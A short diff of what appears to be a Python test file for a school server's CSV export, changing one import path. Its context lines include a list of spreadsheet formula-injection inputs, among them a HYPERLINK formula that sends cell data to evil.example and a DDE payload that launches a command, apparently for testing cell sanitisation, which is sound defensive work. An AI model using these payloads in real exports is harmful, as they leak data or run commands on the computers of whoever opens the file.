@@ -14,7 +14,7 @@ from PIL import Image
 
 from school_server.people_csv import control_characters, safe_cell, write_rows
 
-from .harness import Deployment, new_capture_id
+from server.harness import Deployment, new_capture_id
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
